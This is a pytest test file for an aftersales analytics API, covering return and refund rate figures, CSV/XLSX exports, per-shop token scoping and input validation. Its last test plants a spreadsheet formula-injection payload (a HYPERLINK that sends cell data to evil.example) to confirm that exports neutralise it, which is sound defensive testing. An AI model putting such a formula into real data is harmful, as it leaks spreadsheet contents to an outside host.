"""The analytics API: every figure as JSON, CSV (with a BOM) and XLSX; inside the token's shop only."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from aftersales.accounts.models import ApiToken
from aftersales.cases import services as cs
from aftersales.cases.domain.states import Actor
from aftersales.orders.services import create_order
from aftersales.refunds import services as rs
from tests.integration.conftest import order_payload

pytestmark = pytest.mark.django_db

MERCHANT = cs.By(Actor.MERCHANT)
PERIOD = "first=2026-11-01&last=2026-11-30"


@pytest.fixture
def history(shop, order):
    m, lg = order.lines.order_by("pk")
    case = cs.open_case(shop, order_id=order.pk, lines=[(m.pk, 1)], kind="return_refund", reason="size_fit",
                        by=MERCHANT, now=order.paid_at + timedelta(days=3))
    refund = cs.open_case(shop, order_id=order.pk, lines=[(lg.pk, 1)], kind="refund_only",
                          reason="quality_defect", by=MERCHANT, now=order.paid_at + timedelta(days=3))
    cs.approve_case(shop, refund.pk, MERCHANT)
    rs.grant_refund(shop, refund.pk, MERCHANT)
    second = create_order(shop, order_payload("DY0002", content_id="V123", content_author="达人甲"))
    return {"order": order, "case": case, "refund": refund, "second": second, "m": m, "l": lg}


def test_rates_by_sku(api, history):
    body = api.get(f"/api/v1/analytics/rates?by=sku&{PERIOD}").json()
    assert body["figure"] == "rates-sku" and body["basis"] == "order"
    keys = [c["key"] for c in body["columns"]]
    assert {"sku", "sold_qty", "returned_qty", "return_rate_bp", "return_lower_bp", "verdict"} <= set(keys)
    rows = {r["sku"]: r for r in body["rows"]}
    assert rows["QZ-1001-M M"]["sold_qty"] == 4 and rows["QZ-1001-M M"]["returned_qty"] == 1
    assert rows["QZ-1001-M M"]["return_rate_bp"] == 2500
    assert rows["QZ-1001-L L"]["refund_fen"] == 14900
    drill = body["drill"][body["rows"].index(rows["QZ-1001-M M"])]
    assert drill == {"sku": history["m"].sku_id}
    cases = api.get(f"/api/v1/analytics/cases?{PERIOD}&sku={drill['sku']}").json()
    assert [c["id"] for c in cases["items"]] == [history["case"].pk]


@pytest.mark.parametrize("path", [
    "rates?by=product", "rates?by=category", "rates?by=platform", "rates?by=channel", "rates?by=content",
    "rates?by=content_product", "rates?by=province", "rates?by=province_category", "rates?by=reason",
    "trend?grain=day", "trend?grain=week&category=1", "trend?grain=month", "heatmap", "reasons",
    "reasons/by-product", "content", "buyers", "costs?by=reason", "costs?by=category",
])
def test_every_figure_answers_in_every_format(api, history, path):
    url = f"/api/v1/analytics/{path}{'&' if '?' in path else '?'}{PERIOD}"
    body = api.get(url).json()
    assert "rows" in body and "columns" in body, body
    csv_response = api.get(url + "&format=csv")
    assert csv_response.status_code == 200 and csv_response["Content-Type"].startswith("text/csv")
    raw = csv_response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(table) == len(body["rows"]) + 1
    xlsx = api.get(url + "&format=xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.max_row == len(body["rows"]) + 1


def test_refund_and_trend_figures(api, history):
    (row,) = api.get(f"/api/v1/analytics/rates?by=platform&{PERIOD}").json()["rows"]
    assert (row["orders"], row["refund_orders"], row["refund_fen"]) == (2, 1, 14900)
    assert row["refund_order_rate_bp"] == 5000
    trend = api.get(f"/api/v1/analytics/trend?grain=week&{PERIOD}&basis=case").json()
    assert sum(r["returned_qty"] for r in trend["rows"]) == 2
    assert [r["bucket"] for r in trend["rows"]][0] == "2026-10-26"  # the Monday of the week of 1 Nov
    csv_text = api.get(f"/api/v1/analytics/rates?by=platform&{PERIOD}&format=csv").content.decode("utf-8-sig")
    assert "50.00%" in csv_text and "149.00" in csv_text


def test_content_and_reasons(api, history):
    rows = api.get(f"/api/v1/analytics/rates?by=content&{PERIOD}").json()["rows"]
    assert [(r["content"], r["author"], r["sold_qty"]) for r in rows] == [("V123", "达人甲", 3)]
    reasons = api.get(f"/api/v1/analytics/reasons?{PERIOD}").json()["rows"]
    assert [r["returned_qty"] for r in reasons] == [1, 1] and reasons[-1]["cumulative_bp"] == 10_000


def test_another_shops_token_sees_nothing(client, history, other_shop):
    raw = ApiToken.issue(other_shop)[1]
    headers = {"Authorization": f"Bearer {raw}"}
    body = client.get(f"/api/v1/analytics/rates?by=sku&{PERIOD}", headers=headers).json()
    assert body["rows"] == []
    cases = client.get(f"/api/v1/analytics/cases?{PERIOD}&sku={history['m'].sku_id}", headers=headers).json()
    assert cases["items"] == []


def test_roles_and_bad_input(client, api, shop, history):
    raw = ApiToken.issue(shop, role="warehouse")[1]
    response = client.get("/api/v1/analytics/rates", headers={"Authorization": f"Bearer {raw}"})
    assert response.status_code == 403
    assert api.get("/api/v1/analytics/rates?by=colour").json()["code"] == "input.invalid_choice"
    assert api.get("/api/v1/analytics/rates?by=sku&platform=douyin").json()["code"] == \
        "analytics.filter_not_supported"
    assert api.get("/api/v1/analytics/rates?first=2026-11-30&last=2026-11-01").json()["code"] == \
        "analytics.period_reversed"
    assert api.get("/api/v1/analytics/rates?basis=later").status_code == 422
    # An id past a bigint is bad input, not a database driver's "int too large" (a 500).
    for name in ("sku", "product", "category"):
        response = api.get(f"/api/v1/analytics/rates?{name}={2**63}")
        assert response.status_code == 422 and response.json()["code"] == "input.invalid", name
    assert api.get(f"/api/v1/analytics/rates?by=sku&sku={2**63 - 1}").status_code == 200
    for query in ("last=9999-12-31", "first=0001-01-01&last=0001-01-05", "last=0001-01-03"):
        response = api.get(f"/api/v1/analytics/rates?{query}")
        assert response.status_code == 422 and response.json()["code"] == "analytics.day_out_of_range", query


def test_alerts_settings_and_thresholds(client, api, shop, history):
    assert api.post("/api/v1/analytics/alerts/evaluate").status_code == 200
    assert isinstance(api.get("/api/v1/analytics/alerts").json()["items"], list)
    response = client.put("/api/v1/analytics/settings", data={"good_rate_bp": 400, "alert_rate_bp": 900},
                          content_type="application/json", headers=api.headers)
    assert response.json()["alert_rate_bp"] == 900
    category = shop.categories.get()
    response = client.put(f"/api/v1/analytics/thresholds/{category.pk}", data={"alert_rate_bp": 2000},
                          content_type="application/json", headers=api.headers)
    assert response.json() == {"category_id": category.pk, "name": category.name, "good_rate_bp": None,
                               "alert_rate_bp": 2000, "effective_good_rate_bp": 400,
                               "effective_alert_rate_bp": 2000}
    agent = ApiToken.issue(shop, role="agent")[1]
    response = client.put("/api/v1/analytics/settings", data={"good_rate_bp": 100},
                          content_type="application/json", headers={"Authorization": f"Bearer {agent}"})
    assert response.status_code == 403


def test_figure_downloads_never_carry_a_formula_from_shop_data(api, shop, history):
    # A content author and a buyer's province that a spreadsheet would run, given through the API.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    payload = order_payload("DY0003", content_id="@SUM(1+1)", content_author=formula)
    payload["buyer"]["province"] = "+cmd"
    create_order(shop, payload)
    content = f"/api/v1/analytics/rates?by=content&{PERIOD}"
    table = list(csv.reader(io.StringIO(api.get(content + "&format=csv").content.decode("utf-8-sig"))))
    assert ["'@SUM(1+1)", "'" + formula] in [row[:2] for row in table]
    sheet = load_workbook(io.BytesIO(api.get(content + "&format=xlsx").content)).active
    cells = {sheet.cell(r, 2).value: sheet.cell(r, 2).data_type for r in range(2, sheet.max_row + 1)}
    assert cells["'" + formula] == "s"
    province = api.get(f"/api/v1/analytics/rates?by=province&{PERIOD}&format=csv").content.decode("utf-8-sig")
    assert "'+cmd" in province and "\n+cmd" not in province
